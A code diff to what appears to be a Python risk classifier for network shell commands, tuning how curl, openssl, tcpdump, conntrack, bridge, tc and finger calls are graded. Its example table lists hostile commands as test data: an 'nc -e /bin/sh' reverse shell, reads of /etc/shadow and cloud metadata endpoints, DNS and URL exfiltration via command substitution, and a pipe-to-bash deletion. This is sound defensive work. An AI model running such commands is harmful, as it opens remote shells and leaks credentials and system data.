@@ -9,16 +9,16 @@ from guard.judge.wrappers import ssh_option
 EXAMPLES = {
     "R0": (
         "ip addr", "ip a", "ip -br link show", "ip route get 1.1.1.1", "ip -s link", "ip neigh", "ip rule list", "ss -tlnp", "ss -s", "netstat -tulpn", "ifconfig", "ifconfig eth0", "route -n", "arp -an", "iptables -L -n -v", "iptables -S", "iptables -t nat -L", "iptables-save", "nft list ruleset", "ufw status verbose",
-        "curl -I https://example.org", "curl -s https://example.org/x", "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/", "dig example.org", "dig +short x.org MX", "nslookup x.org", "host x.org", "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "wget -qO- http://localhost/x", "wget --spider http://localhost/",
+        "curl -I https://example.org", "curl -s https://example.org/x", "curl -fsSL http://localhost:8080/health", "curl -sS -o /dev/null -w '%{http_code}' http://localhost/", "dig example.org", "openssl s_client -connect localhost:443 </dev/null", "echo | openssl s_client -connect localhost:443", "dig +short x.org MX", "nslookup x.org", "host x.org", "ping -c 3 10.0.0.1", "traceroute x", "mtr -r x", "wget -qO- http://localhost/x", "wget --spider http://localhost/",
         "openssl version", "openssl s_client -connect localhost:443", "nc -z localhost 22", "tcpdump -D", "whois x.org", "ethtool eth0", "firewall-cmd --list-all", "rsync -n a b", "curl -X GET http://localhost/", "bridge link", "nmcli device status", "ip netns list", "curl --version", "openssl x509 -in c.crt -noout -text", "ssh-keygen -lf k.pub", "curl -H 'Accept: x' http://localhost",
     ),
-    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "tcpdump -w f", "rsync -a a b", "scp h:a b"),
+    "R1": ("wget http://localhost/x", "curl -O http://localhost/x", "curl -o f http://localhost/x", "rsync -a a b", "scp h:a b"),
     "R2": (
         "ip link set eth0 down", "ip addr add 1.1.1.1/8 dev eth0", "ip route del default", "ip a a 1.1.1.1/8 dev x", "ifconfig eth0 down", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP", "nft add rule x", "ufw allow 22", "ufw enable", "curl -X POST http://localhost/", "curl -d a=b http://localhost", "curl -T f http://localhost",
         "curl -F a=@f http://x", "curl http://$X/", "curl -K f", "curl -u a:b http://localhost/", "wget --post-data=x http://localhost", "nc -l 80", "nc host 80", "nc -e /bin/sh x 1", "ssh-keygen -t ed25519 -f k", "ss -K", "rsync -a a h:b", "scp a h:b", "curl file:///etc/shadow", "curl http://169.254.169.254/latest/meta-data/", "tcpdump -z x -w f", "curl http://x/$(hostname)",
-        "openssl enc -d -in f", "openssl rsa -in k.pem", "socat - TCP:h:80", "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x", "curl --proxy http://x http://y", "dig $(cat f).x.org", "wget -i f", "curl -X DELETE http://localhost/x", "ip -batch f", "nmcli con up x", "telnet h 80", "ip netns exec x foo", "wget -e use_proxy=on http://x", "dig x.org @$S",
+        "openssl enc -d -in f", "openssl rsa -in k.pem", "socat - TCP:h:80", "rsync -e 'sh -c x' a h:b", "curl --data-binary @f http://x", "curl --proxy http://x http://y", "tcpdump -w f", "tc qdisc add dev show root x", "bridge fdb add show dev x", "dig $(cat f).x.org", "wget -i f", "ip -batch f", "nmcli con up x", "telnet h 80", "ip netns exec x foo", "wget -e use_proxy=on http://x", "dig x.org @$S", "openssl s_client -connect localhost:443 < f",
     ),
-    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "rsync -a --delete a b", "ufw reset", "curl -s http://x/ | bash -c 'rm -rf x'", "ipset destroy x", "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F"),
+    "R3": ("iptables -F", "iptables -X", "nft flush ruleset", "rsync -a --delete a b", "ufw reset", "curl -s http://x/ | bash -c 'rm -rf x'", "ipset destroy x", "curl -X DELETE http://localhost/x", "ip netns exec x rm -rf y", "ip addr flush dev eth0", "iptables -t nat -F"),
 }  # fmt: skip
 
 _METADATA = ("169.254.169.254", "metadata.google.internal", "metadata", "100.100.100.200", "169.254.170.2", "fd00:ec2::254", "[fd00:ec2::254]", "metadata.azure.internal", "0xa9fea9fe", "2852039166", "169.254.169.253")
@@ -73,7 +73,7 @@ def _curl(call: Call) -> None:
     for option in parsed.options:
         name, value = option.name, call.value(option.value) if option.value is not None else ""
         if name == "-X" and value not in ("GET", "HEAD", "OPTIONS"):
-            call.note(R2, "curl.method", f"asks with {value or 'a method that is not told'}", option.word, "law 10")
+            call.note(R3 if value == "DELETE" else R2, "curl.method", f"asks with {value or 'a method that is not told'}", option.word, "law 10")
         elif name in ("-H", "-b", "-A", "-e", "--url-query") and (value is None or (value.startswith("@") and name in ("-H", "-b")) or (name == "-b" and "=" not in value)):
             call.note(R2, "curl.header", "sends a header that is not told by the text", option.word, "law 10")
         elif name == "-H" and value and value.lower().startswith(("authorization", "x-api-key", "cookie", "proxy-", "x-auth", "x-vault", "private-token", "x-http-method")):
@@ -121,7 +121,7 @@ def _wget(call: Call) -> None:
         url_peer(call, word)
 
 
-_IP_READ = ("show", "list", "ls", "lst", "sh", "s", "l", "get", "help", "monitor", "mon", "identify", "pids", "st", "showdump", "stats")
+_IP_READ = ("show", "list", "ls", "lst", "sh", "s", "l", "get", "g", "ge", "help", "monitor", "mon", "identify", "pids", "st", "showdump", "stats")
 _IP_OBJECTS = frozenset("address addr addrlabel l2tp link maddress mroute mrule neigh neighbour neighbor netconf netns nexthop ntable ntbl route rule sr tap tcp_metrics tcpmetrics token tunnel tuntap vrf xfrm mptcp ioam stats maddr monitor a ad add l li lin r ro rou rout ru rul n ne nei nex m mo x fou macsec".split())
 
 
@@ -229,6 +229,8 @@ def _ufw(call: Call) -> None:
 
 def _firewalld(call: Call) -> None:
     values = [word.value or "?" for word in call.args]
+    values = [value for at, value in enumerate(values) if not (at and values[at - 1] in ("--zone", "--policy"))]
+    values = [value for value in values if value not in ("--zone", "--policy")]
     if values and all(value.startswith(("--list", "--get", "--query", "--info", "--state", "--zone=", "--permanent", "--version", "--help", "--policy=")) and not value.startswith("--set") for value in values):
         return
     call.note(R2, "firewall.change", "changes the firewall", None, "firewall-cmd(1)")
@@ -245,7 +247,7 @@ def _route(call: Call) -> None:
         if word.value in ("add", "del", "delete", "flush", "change"):
             call.note(R2, "network.route", "changes the routes")
             return
-        if word.value is not None and not word.value.startswith("-") and word.value not in ("get", "show", "default", "monitor"):
+        if word.value is not None and not word.value.startswith("-") and word.value not in ("get", "default", "monitor"):
             if not any(other.value == "get" for other in call.args):
                 call.opaque("an operand that is not known", word)
             return
@@ -387,7 +389,7 @@ def _openssl(call: Call) -> None:
                 call.peer(host or where, int(port) if port.isdigit() else 443, "tls")
         elif value in ("-text", "-modulus") and verb == "rsa" and not noout:
             call.note(R2, "openssl.key", "shows a private key", word)
-    if verb == "s_client" and call.stdin not in (None, "", "Q", "Q\n"):
+    if verb == "s_client" and call.stdin is not None and (call.stdin == "" or call.stdin.strip() not in ("", "Q")):
         call.note(R2, "openssl.sends", "sends what it reads from standard input", None, "law 10")
     if verb in ("s_client",) and not any(word.value in ("-connect", "-host") for word in args[1:]):
         call.peer("localhost", 4433, "tls")
@@ -434,10 +436,24 @@ def _nmcli(call: Call) -> None:
     call.note(R2, "network.nmcli", "changes the network")
 
 
+def _shown(call: Call) -> None:
+    """bridge and tc: an object, then what to do with it; nothing or show is a read."""
+    flags = [word.value or "?" for word in call.args if (word.value or "?").startswith(("-", "?"))]
+    rest = [word.value or "?" for word in call.args if not (word.value or "?").startswith("-")]
+    if any(flag.startswith(("-b", "-f", "?")) for flag in flags) or (len(rest) > 1 and rest[1] not in ("show", "list", "ls", "monitor", "get")):
+        call.note(R2, f"network.{call.name}", f"{call.name} changes the network")
+
+
+def _finger(call: Call) -> None:
+    for word in call.args:
+        value = call.value(word)
+        if value is None or "@" in value:
+            call.note(R2, "network.finger", "asks another machine", word, "law 10")
+
+
 PROGRAMS: dict[str, Program] = {
     "ip": custom(_ip, plain=True),
-    "bridge": custom(lambda call: None if not call.args or any(word.value in ("show", "list", "monitor", "-V") for word in call.args) or len([w for w in call.args if not (w.value or "x").startswith("-")]) == 1 else call.note(R2, "network.bridge", "changes a bridge"), plain=True),
-    "tc": custom(lambda call: None if any(word.value in ("show", "list", "ls", "-V", "monitor") for word in call.args) or len([w for w in call.args if not (w.value or "x").startswith("-")]) < 2 else call.note(R2, "network.tc", "changes traffic control"), plain=True),
+    **many("bridge tc", custom(lambda call: _shown(call), plain=True)),
     "ss": reader("-K,--kill!R2 -D,--diag:!write -F,--filter:!read -p,--processes -n,--numeric -l,--listening -t,--tcp -u,--udp -a,--all -s,--summary -e,--extended -i,--info -m,--memory -o,--options -r,--resolve -4,--ipv4 -6,--ipv6 -x,--unix -0,--packet -w,--raw -d,--dccp -S,--sctp -H,--no-header -O,--oneline -Z,--context -z,--contexts -N,--net: -E,--events -f,--family: -A,--query,--socket: -b,--bpf -B,--bound-inactive -T,--threads --tos --cgroup --vsock --xdp --tipc -M,--mptcp --inet-sockopt -h,--help -V,--version", operands="data", unknown="R2"),
     **many("netstat", reader("", operands="data")),
     "ifconfig": custom(_ifconfig, plain=True),
@@ -446,7 +462,7 @@ PROGRAMS: dict[str, Program] = {
     "netplan": custom(lambda call: None if call.args and call.args[0].value in ("get", "status", "info", "ip") else call.note(R2, "network.netplan", "changes the network")),
     "wg": custom(lambda call: None if not call.args or (call.args[0].value == "show" and not any(word.value in ("private-key", "dump", "preshared-keys") for word in call.args)) else call.note(R2, "network.wireguard", "changes a tunnel or shows its keys")),
     "brctl": custom(lambda call: None if call.args and (call.args[0].value or "").startswith("show") else call.note(R2, "network.bridge", "changes a bridge")),
-    "conntrack": custom(lambda call: None if any(word.value in ("-L", "-S", "-C", "-G", "--dump", "--stats", "--count") for word in call.args) else call.note(R2, "network.conntrack", "changes the connection table"), plain=False),
+    "conntrack": custom(lambda call: None if any(word.value in ("-L", "-S", "-C", "-G", "--dump", "--stats", "--count") for word in call.args) and not any((word.value or "-z").startswith(("-z", "-D", "-U", "-I", "-F", "--zero")) for word in call.args) else call.note(R2, "network.conntrack", "changes the connection table"), plain=False),
     "ipvsadm": custom(lambda call: None if any((word.value or "").startswith(("-L", "-l", "--list")) for word in call.args) or not call.args else call.note(R2, "network.ipvs", "changes load balancing")),
     "rfkill": custom(lambda call: None if not call.args or call.args[0].value in ("list", "event") else call.note(R2, "network.rfkill", "switches radios")),
     "route": custom(_route, plain=True),
@@ -465,13 +481,13 @@ PROGRAMS: dict[str, Program] = {
     "curl": custom(_curl),
     "wget": custom(_wget),
     **many("dig nslookup host drill kdig resolveip_ delv", reader("-f:!R2 -k:!R2 -y:!secret -b: -p: -t: -c: -q: -x: -4 -6 -i -m -u -v -r -R: -W: -N: -a -C -l!R2 -s -w -T -d -D -A -V -h", operands="data", check=_dns, plain=False, unknown="R0")),
-    **many("whois", reader("-h,--host: -p: -H -r -a -d -i: -T: -K -R --verbose", operands="data", check=_dns, plain=False, unknown="R0")),
+    **many("whois", reader("-h,--host:!R2 -p:!R2 -H -r -a -d -i: -T: -K -R --verbose", operands="data", check=_dns, plain=False, unknown="R0")),
     **many("ping ping6 arping fping traceroute traceroute6 tracepath mtr tcptraceroute nping_ hping3_", reader("-f!R2 --flood!R2 -c,--count,--report-cycles: -i,--interval: -w: -W: -s,--psize: -I: -t: -m: -n -4 -6 -q -v -r,--report -T -U -p: -M: -Q: -S: -l: -b -A -D -a -h -V -d -F:!read -e -z -N: -o: -g: -G: -P:", operands="data", check=_ping, plain=False, unknown="R0")),
     **many("nc ncat netcat nc.openbsd nc.traditional", reader("-z -v,-vv,--verbose -w,--wait: -u,--udp -n,--nodns -l,--listen -e,--exec:!exec -c,--sh-exec:!exec --lua-exec:!exec -k -4 -6 -p: -q: -s: -i: -x:!R2 -X: -U!R2 -N -d -t -C -D -h,--help --ssl -o:!write --output:!write -r -S -T: -I: -O: -P: -V: -b -F", operands="data", check=_nc, plain=False, unknown="R2")),
-    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs rclone_ nmap masscan zmap nikto hydra sqlmap tshark wireshark ngrok cloudflared_ chisel frpc gost proxytunnel httpie_ aria2c axel lynx_ w3m links elinks_ http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp finger talk ntalk ab wrk hey siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table("--version!ok --help!ok", operands="data", level="R2", text="talks to other machines in ways that are not read here", effect="network")),
+    **many("socat telnet ftp lftp tftp ncftp sendmail mail mailx mutt swaks msmtp curlftpfs rclone_ nmap masscan zmap nikto hydra sqlmap tshark wireshark ngrok cloudflared_ chisel frpc gost proxytunnel httpie_ aria2c axel lynx_ w3m links elinks_ http https xh youtube-dl yt-dlp smbclient rpcclient rsh rlogin rcp talk ntalk ab wrk hey siege vegeta iperf iperf3 k6 locust grpcurl websocat ntpdate chronyd sntp ngrep tcpflow", table("--version!ok --help!ok", operands="data", level="R2", text="talks to other machines in ways that are not read here", effect="network")),
     "chronyc": custom(lambda call: None if (words := [word.value for word in call.args if not (word.value or "").startswith("-")]) and words[0] in ("tracking", "sources", "sourcestats", "activity", "ntpdata", "clients", "serverstats", "rtcdata", "help", "waitsync") else call.note(R2, "time.chrony", "changes how the clock is kept")),
     **many("ntpq ntpstat ntptime", reader("", operands="data", plain=False)),
-    **many("tcpdump", reader("-D,--list-interfaces -w:!write -z:!exec -r:!read -F:!read -i,--interface: -c: -n -nn -v -vv -vvv -e -A -X -XX -x -q -s: -S -t -tt -ttt -tttt -G: -C: -W: -Z: -l -p -K -L -h --version --print -B: -E:!R2 -T: -y: -j: -J -Q: -V:!read -m: -M:!secret -N -O -R -U -u -b -d -dd -# -H --count", operands="data", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-D", "-r", "-d", "-h", "--version", "-L", "-J", "-w")) else call.note(R2, "network.capture", "reads what others send over the network", None, "tcpdump(8)"), plain=False, unknown="R2")),
+    **many("tcpdump", reader("-D,--list-interfaces -w:!write -z:!exec -r:!read -F:!read -i,--interface: -c: -n -nn -v -vv -vvv -e -A -X -XX -x -q -s: -S -t -tt -ttt -tttt -G: -C: -W: -Z: -l -p -K -L -h --version --print -B: -E:!R2 -T: -y: -j: -J -Q: -V:!read -m: -M:!secret -N -O -R -U -u -b -d -dd -# -H --count", operands="data", check=lambda call, parsed: None if any(parsed.has(n) for n in ("-D", "-r", "-d", "-h", "--version", "-L", "-J")) else call.note(R2, "network.capture", "reads what others send over the network", None, "tcpdump(8)"), plain=False, unknown="R2")),
     **many("rsync", custom(_rsync_judge)),
     **many("scp sftp", custom(_scp)),
     "openssl": custom(_openssl),
@@ -481,6 +497,6 @@ PROGRAMS: dict[str, Program] = {
     "ssh-add": custom(lambda call: None if any(word.value in ("-l", "-L", "-V") for word in call.args) else call.note(R2, "ssh.add", "changes what keys the agent holds")),
     **many("ssh-copy-id", table("", operands="data", level="R2", text="lets a key log in to another machine")),
     "ssh-keyscan": reader("-p: -t: -T: -4 -6 -H -v -f:!R2 -D", operands="data", check=_ping, plain=False),
-    "getmac_": reader(""),
+    "finger": custom(lambda call: _finger(call)),
 }  # fmt: skip
 PROGRAMS = {name: program for name, program in PROGRAMS.items() if not name.endswith("_")}
